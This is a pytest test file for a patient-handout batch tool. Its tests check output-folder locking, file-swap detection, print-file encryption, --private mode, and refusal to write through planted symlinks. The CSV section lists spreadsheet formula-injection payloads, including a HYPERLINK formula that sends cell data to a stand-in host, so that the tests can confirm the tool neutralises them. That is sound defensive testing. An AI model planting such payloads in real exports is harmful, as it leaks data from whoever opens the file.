"""Patient data and delivery: one batch per output folder, rows that keep their identity,
print files and reports that leak nothing, no write through a planted link.

Each test stands for a class of defect (issue "Hardening", items 1–3, 5, 6, 9): its
payloads vary the way a careless or hostile input would.
"""

from __future__ import annotations

import email
import os
import subprocess
import sys
import textwrap
from email import policy
from pathlib import Path

import pytest
from conftest_pdf import make_pdf
from pypdf import PdfReader
from test_cli_batch import FAST, batch, pdfs, report, roster, run, text_of

from handouts.deliver import files
from handouts.deliver.roster import read_roster
from handouts.deliver.safe_csv import neutralise

# ----------------------------------------------------------------------- 1. one batch per folder

HOLD_LOCK = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    from handouts.deliver.outdir import claim
    with claim(Path(sys.argv[1])):
        print("holding", flush=True)
        time.sleep(60)
    """
)


def _holder(out: Path) -> subprocess.Popen[str]:
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD_LOCK, str(out)], stdout=subprocess.PIPE, text=True
    )
    assert holder.stdout is not None and holder.stdout.readline() == "holding\n"
    return holder


def test_a_second_batch_into_a_busy_folder_stops_in_one_line(tmp_path: Path) -> None:
    out = tmp_path / "out"
    path = roster(tmp_path, f"patient,programme\nAnn,{FAST}\n")
    holder = _holder(out)
    try:
        result = batch(path, out, "--jobs", "1", "--combine", tmp_path / "print.pdf")
    finally:
        holder.kill()  # as kill -9: the lock goes with the process, nothing to clean
        holder.wait()
    assert result.exit_code == 1
    assert result.stderr == (
        f"error: {out} is in use by another batch (process {holder.pid}); "
        "wait for it to finish, or choose another --out-dir\n"
    )
    assert pdfs(out) == [] and not (tmp_path / "print.pdf").exists()
    # The killed batch left no stale lock behind.
    result = batch(path, out, "--jobs", "1", "--combine", tmp_path / "print.pdf")
    assert result.exit_code == 0, result.output
    assert pdfs(out) == ["ann.pdf"]


def test_mail_and_print_file_hold_the_bytes_this_batch_built(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another program swaps each handout the moment it is written: nothing it wrote goes out."""
    intruder = make_pdf(1, label="INTRUDER")
    real = files.write_atomic

    def write_then_swap(path: Path, data: bytes, **kwargs: object) -> None:
        real(path, data, **kwargs)  # type: ignore[arg-type]
        if Path(path).suffix == ".pdf" and Path(path).parent.name == "out":
            Path(path).write_bytes(intruder)

    monkeypatch.setattr(files, "write_atomic", write_then_swap)
    text = f"patient,email,programme\nAnn,ann@example.org,{FAST}\nBen,ben@example.org,{FAST}\n"
    out = tmp_path / "out"
    args = ["--jobs", "1", "--email", "--dry-run", "--combine", tmp_path / "print.pdf"]
    result = batch(roster(tmp_path, text), out, *args)
    assert result.exit_code == 0, result.output
    for eml in (out / "outbox").glob("*.eml"):
        message = email.message_from_bytes(eml.read_bytes(), policy=policy.default)
        (attachment,) = message.iter_attachments()
        assert attachment.get_content() != intruder
        assert "INTRUDER" not in text_of(PdfReader(_bytes_io(attachment.get_content())).pages[0])
    combined = PdfReader(tmp_path / "print.pdf")
    assert len(combined.pages) > 2
    assert not any("INTRUDER" in text_of(page) for page in combined.pages)


def _bytes_io(data: bytes):  # noqa: ANN202
    import io

    return io.BytesIO(data)


# --------------------------------------------------------------------------- 2. passwords


def test_a_print_file_of_protected_handouts_needs_an_explicit_choice(tmp_path: Path) -> None:
    text = f"patient,programme,password\nAnn,{FAST},\nBen,{FAST},ben-secret\n"
    path, out, target = roster(tmp_path, text), tmp_path / "out", tmp_path / "print.pdf"
    result = batch(path, out, "--jobs", "1", "--combine", target)
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: --combine {target}: row 3 has a password, and the print file would hold "
        "its handout unencrypted; add --password to encrypt the print file, or "
        "--combine-unencrypted to write it without one\n"
    )
    assert not out.exists() and not target.exists()

    result = batch(path, out, "--jobs", "1", "--combine", target, "--combine-unencrypted")
    assert result.exit_code == 0, result.output
    assert f"note: {target} is not encrypted: it holds every handout, decrypted" in result.stderr
    assert not PdfReader(target).is_encrypted

    result = batch(path, out, "--jobs", "1", "--combine", target, "--password", "clinic")
    assert result.exit_code == 0, result.output
    reader = PdfReader(target)
    assert reader.is_encrypted and reader.decrypt("clinic")
    assert PdfReader(out / "ben.pdf").decrypt("ben-secret")  # each row keeps its own


# --------------------------------------------------------------------------- 3. YAML rows


@pytest.mark.parametrize(
    ("text", "labels"),
    [
        ("[{patient: Alice}, {patient: Bob, level: x}]\n", ["1 (entry 1)", "1 (entry 2)"]),
        ("- {patient: Alice}\n- {patient: Bob, level: x}\n", ["1", "2"]),
        (
            "- &r {patient: Alice}\n- {patient: Bob, level: x}\n- *r\n",
            ["1 (entry 1)", "2", "1 (entry 3)"],
        ),
        (
            "- &r {patient: Alice}\n- *r\n- *r\n",
            ["1 (entry 1)", "1 (entry 2)", "1 (entry 3)"],
        ),
    ],
)
def test_every_yaml_entry_is_its_own_row(tmp_path: Path, text: str, labels: list[str]) -> None:
    rows = read_roster(_write(tmp_path / "r.yaml", text)).rows
    assert [row.label for row in rows] == labels


def test_yaml_rows_on_one_line_are_built_and_reported_one_by_one(tmp_path: Path) -> None:
    text = (
        f"[{{patient: Alice, programme: {FAST}}}, {{patient: Bob, level: x}}, "
        f"{{patient: Cy, programme: {FAST}}}]\n"
    )
    out = tmp_path / "out"
    path = _write(tmp_path / "r.yaml", text)
    result = batch(path, out, "--jobs", "1", "--combine", tmp_path / "print.pdf")
    assert result.exit_code == 1
    assert "3 rows: 2 built, 0 skipped, 1 failed" in result.stdout
    assert [(r["row"], r["patient"]) for r in report(out)] == [("1 (entry 2)", "Bob")]
    assert pdfs(out) == ["alice.pdf", "cy.pdf"]
    reader = PdfReader(tmp_path / "print.pdf")
    assert [item.title for item in reader.outline if not isinstance(item, list)] == [
        "Alice",
        "Cy",
    ]


# --------------------------------------------------------------------------- 5. --private


def test_private_keeps_names_out_of_every_file_the_batch_writes(tmp_path: Path) -> None:
    text = f"patient,programme,level\nZoë Łukasiewicz,{FAST},\nBad Level,{FAST},x\n"
    out = tmp_path / "out"
    args = ["--jobs", "1", "--private", "--combine", tmp_path / "print.pdf"]
    result = batch(roster(tmp_path, text), out, *args)
    assert result.exit_code == 1
    reader = PdfReader(tmp_path / "print.pdf")
    titles = [item.title for item in reader.outline if not isinstance(item, list)]
    assert titles == ["Row 2"]
    assert report(out) == [
        {"row": "3", "patient": "", "reason": "level: 'x' is not a level "
         "(use a whole number from 1 to 20)"}
    ]  # fmt: skip
    for name in ("Zoë", "Łukasiewicz", "Bad Level"):
        assert name not in (out / "batch-report.csv").read_text(encoding="utf-8-sig")
        assert not any(name in str(value) for value in (reader.metadata or {}).values())


# --------------------------------------------------------------------------- 6. CSV formulas


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\n@cmd",
        "＝1+1",  # a full-width equals sign, which some spreadsheets read as "="
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Ann", "O'Brien", "3", "", "a=b", "level: 'x' is not"])
def test_other_cells_are_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


def test_the_batch_report_never_holds_a_formula(tmp_path: Path) -> None:
    names = ['=HYPERLINK("http://x.example","a")', "+SUM(1)", "-1+1", "@A1"]
    text = "patient,level\n" + "".join(
        f'"{name.replace(chr(34), 2 * chr(34))}",x\n' for name in names
    )
    out = tmp_path / "out"
    assert batch(roster(tmp_path, text), out, "--jobs", "1").exit_code == 1
    assert [row["patient"] for row in report(out)] == ["'" + name for name in names]


# --------------------------------------------------------------------------- 9. files not to write


def test_build_never_overwrites_its_own_attachment(tmp_path: Path) -> None:
    consent = tmp_path / "consent.pdf"
    consent.write_bytes(make_pdf(1, label="CONSENT"))
    (tmp_path / "link.pdf").symlink_to(consent)
    os.link(consent, tmp_path / "hard.pdf")
    before = consent.read_bytes()
    for output in (consent, tmp_path / "sub" / ".." / "consent.pdf", tmp_path / "link.pdf",
                   tmp_path / "hard.pdf"):  # fmt: skip
        result = run("build", FAST, "--attach", consent, "-o", output)
        assert result.exit_code == 2
        assert result.stderr == (
            f"error: -o {output}: that is an --attach file; choose another output file\n"
        )
    assert consent.read_bytes() == before


def test_build_never_overwrites_its_brand_file(tmp_path: Path) -> None:
    brand = tmp_path / "clinic.yaml"
    brand.write_text("name: Clinic\n")
    result = run("build", FAST, "--brand", brand, "-o", brand)
    assert result.exit_code == 2
    assert (
        result.stderr == f"error: -o {brand}: that is the brand file; choose another output file\n"
    )
    assert brand.read_text() == "name: Clinic\n"


@pytest.mark.parametrize("planted", ["ann.pdf", "batch-report.csv", "built.log", "outbox"])
def test_a_planted_link_in_the_output_folder_is_never_written_through(
    tmp_path: Path, planted: str
) -> None:
    text = f"patient,email,programme,level\nAnn,ann@example.org,{FAST},\nBen,,{FAST},x\n"
    path = roster(tmp_path, text)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("keep")
    target = victim if planted == "outbox" else victim / "keep.txt"
    out = tmp_path / "out"
    out.mkdir()
    (out / planted).symlink_to(target)
    before = path.read_bytes()
    result = batch(path, out, "--jobs", "1", "--email", "--dry-run")
    assert (victim / "keep.txt").read_text() == "keep"
    assert sorted(p.name for p in victim.iterdir()) == ["keep.txt"]
    assert path.read_bytes() == before
    assert result.exit_code == 1  # Ben's row fails
    assert "Traceback" not in result.output


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("spelling", ["hard link", "symlink"])
def test_no_output_overwrites_an_input_however_it_is_spelt(tmp_path: Path, spelling: str) -> None:
    path = roster(tmp_path, f"patient,programme\nAnn,{FAST}\n")
    alias = tmp_path / "alias.pdf"
    if spelling == "hard link":
        os.link(path, alias)
    else:
        alias.symlink_to(path)
    before = path.read_bytes()
    result = batch(path, tmp_path / "out", "--combine", alias)
    assert result.exit_code == 2
    assert "that is the roster; choose a new .pdf file" in result.stderr
    source = tmp_path / "in.pdf"
    source.write_bytes(make_pdf(2))
    twin = tmp_path / "twin.pdf"
    os.link(source, twin) if spelling == "hard link" else twin.symlink_to(source)
    result = run("impose", source, "--booklet", "-o", twin)
    assert result.exit_code == 2
    assert "choose an output file other than the input" in result.stderr
    assert path.read_bytes() == before and source.read_bytes() == make_pdf(2)
